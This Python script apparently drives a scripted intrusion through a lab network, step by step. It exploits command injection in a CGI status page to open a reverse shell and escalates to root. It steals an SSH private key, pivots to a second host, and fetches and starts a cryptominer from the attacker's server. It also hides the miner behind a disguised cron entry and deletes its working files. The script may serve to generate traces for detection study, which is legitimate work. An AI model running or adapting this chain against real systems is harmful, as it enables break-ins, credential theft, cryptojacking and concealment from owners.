# SPDX-License-Identifier: Apache-2.0
"""The intruder, key by key, from one host to the next: see intruder.py."""
import http.client
import re
import socket
import ssl
import urllib.parse

import intruder
import terminal
from intruder import TOOLS_PORT, WORK, step

ATTACKER, POOL, POOL_PORT = "203.0.113.66", "203.0.113.80", 3333
TARGET, NEXT = "192.0.2.25", "192.0.2.26"
WEB_PROMPT, WEB_ROOT_PROMPT = r"www-data@web:[^\n]*\$ $", r"root@web:[^\n]*# $"
FILES_PROMPT, FILES_ROOT_PROMPT = r"webadmin@files:[^\n]*\$ $", r"root@files:[^\n]*# $"
MINER = "/usr/local/lib/fontd"
CRON_FILE = "/etc/cron.d/fontconfig-cache"


def ask_page(path):
    """A connection to the site that has asked for a page, and the port that it comes from."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    connection = http.client.HTTPSConnection(TARGET, timeout=terminal.TIMEOUT_S, context=context)
    connection.connect()
    source_port = connection.sock.getsockname()[1]
    connection.request("GET", path, headers={"Connection": "close"})
    return connection, source_port


def scan():
    intruder.scan_ports(TARGET, (21, 22, 23, 25, 80, 443, 3306, 8080))
    pages = []
    for path in ("/", "/admin/", "/.git/config", "/cgi-bin/status.cgi"):
        connection, source_port = ask_page(path)
        with connection.getresponse() as answer:
            pages.append({"path": path, "status": answer.status, "source_port": source_port})
        connection.close()
    step("scan_paths", pages=pages)


def break_in(listener):
    payload = f"127.0.0.1 22; {intruder.command_for_a_shell(ATTACKER)}"
    path = f"/cgi-bin/status.cgi?host={urllib.parse.quote(payload, safe='')}"
    page, source_port = ask_page(path)
    connection, peer = listener.accept()
    page.getresponse().read()
    page.close()
    step("exploit", source_port=source_port, path=path, payload=payload)
    step("reverse_shell", peer_port=peer[1])
    return terminal.Terminal(connection)


def steal_key(shell):
    shell.type("ls -la /home/webadmin/.ssh\r")
    shell.expect(WEB_ROOT_PROMPT)
    shell.type("cat /home/webadmin/.ssh/config\r")
    found = shell.expect(WEB_ROOT_PROMPT)
    step("find_next_host", found=NEXT in found)
    shell.type("cp /home/webadmin/.ssh/id_ed25519 k; chmod 600 k\r")
    shell.expect(WEB_ROOT_PROMPT)
    shell.type("cat k\r")
    step("steal_key", file="/home/webadmin/.ssh/id_ed25519", copy=f"{WORK}/k",
         seen="OPENSSH PRIVATE KEY" in shell.expect(WEB_ROOT_PROMPT))


def go_on(shell):
    shell.type(f"ssh -i k -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null webadmin@{NEXT}\r")
    shell.expect(FILES_PROMPT)
    shell.type("echo $SSH_CONNECTION\r")
    seen = re.search(r"(\S+) (\d+) (\S+) 22\b", shell.expect(FILES_PROMPT))
    step("next_host", source_ip=seen[1], source_port=int(seen[2]))
    shell.type("sudo -s\r")
    shell.expect(FILES_ROOT_PROMPT)
    step("root_of_next_host", user=intruder.ask_who_we_are(shell, FILES_ROOT_PROMPT))


def plant_miner(shell, server):
    shell.type(f"curl -so {MINER} http://{ATTACKER}:{TOOLS_PORT}/fontd\r")
    shell.expect(FILES_ROOT_PROMPT)
    step("fetch_miner", file=MINER, peer_port=server.peer_ports.get("/fontd"))
    shell.type(f"chmod 755 {MINER}\r")
    shell.expect(FILES_ROOT_PROMPT)
    shell.type(f"setsid -f {MINER} {POOL} {POOL_PORT} </dev/null >/dev/null 2>&1\r")
    shell.expect(FILES_ROOT_PROMPT)
    step("start_miner")
    shell.type(f"echo '@reboot root {MINER} {POOL} {POOL_PORT}' > {CRON_FILE}\r")
    shell.expect(FILES_ROOT_PROMPT)
    step("plant_cron", file=CRON_FILE)


def leave(shell):
    for prompt in (FILES_PROMPT, WEB_ROOT_PROMPT):  # out of sudo, out of ssh
        shell.type("exit\r")
        shell.expect(prompt)
    step("left_next_host")
    shell.type(f"cd /; rm -rf {WORK}\r")
    shell.expect(WEB_ROOT_PROMPT)
    step("remove_traces")
    shell.type("exit\r")
    shell.expect(WEB_PROMPT)  # of the terminal's shell, the helper has ended
    shell.line("exit")
    shell.expect(WEB_PROMPT)  # of the first shell, without a terminal
    shell.line("exit")
    shell.expect_end()
    step("logout", keystrokes=shell.sent)


def main():
    server = intruder.ToolServer(ATTACKER, {
        f"/{name}": (intruder.HERE / name).read_bytes() for name in ("rootme.c", "fontd")})
    with socket.create_server((ATTACKER, intruder.SHELL_PORT)) as listener:
        listener.settimeout(terminal.TIMEOUT_S)
        scan()
        shell = break_in(listener)
        intruder.upgrade(shell, WEB_PROMPT)
        step("identity", user=intruder.ask_who_we_are(shell, WEB_PROMPT))
        intruder.search_setuid(shell, WEB_PROMPT)
        intruder.become_root(shell, server, ATTACKER, WEB_PROMPT, WEB_ROOT_PROMPT)
        steal_key(shell)
        go_on(shell)
        plant_miner(shell, server)
        leave(shell)


if __name__ == "__main__":
    main()
